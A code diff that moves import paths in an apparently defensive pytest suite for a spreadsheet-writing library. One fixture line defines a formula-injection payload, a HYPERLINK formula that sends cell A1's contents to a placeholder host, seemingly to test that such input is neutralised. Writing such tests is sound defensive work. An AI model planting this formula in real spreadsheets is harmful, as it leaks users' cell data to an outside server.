@@ -5,12 +5,14 @@ import zipfile
 
 import openpyxl
 import pytest
-
 from merge_helpers import D, make_ws, submission, task
-from xlflow import fastsheet, master
-from xlflow.master import write_master
-from xlflow.plan import build_plan
-from xlflow.spec import load_catalog
+
+from xlflow.output import master
+from xlflow.output.master import write_master
+from xlflow.plan.model import build_plan
+from xlflow.spec.catalog import load_catalog
+from xlflow.xlsx import fastsheet
+from xlflow.xlsx.book import SAFE_OPTIONS
 
 AS_OF = D(2026, 11, 20)
 EVIL = '=HYPERLINK("http://x.example/?"&A1,"click")'
@@ -188,13 +190,13 @@ def test_text_that_looks_like_rich_text_markup_stays_verbatim(ws, tmp_path):
 def test_bulk_rows_keep_booleans_numbers_and_text_apart_across_chunks(tmp_path, monkeypatch):
     """Rendered cells are remembered by value, and True == 1 == 1.0 as dict keys: each must still
     come back as what it was, in one chunk or split over several."""
-    from xlflow.xlsxpack import FastWorkbook
+    from xlflow.xlsx.pack import FastWorkbook
 
     values = [1, True, 1.0, 2, None, "1", False, 0, 0.5, "=1+1", dt.date(2026, 11, 20), 1]
     for chunk in (2, 4096):
         monkeypatch.setattr(fastsheet, "BULK_CHUNK", chunk)
         path = tmp_path / f"bulk{chunk}.xlsx"
-        wb = FastWorkbook(str(path), fastsheet.SAFE_OPTIONS)
+        wb = FastWorkbook(str(path), SAFE_OPTIONS)
         wb.worksheet_class = fastsheet.FastSheet
         sheet = wb.add_worksheet("s")
         styles = fastsheet.Styles(wb)
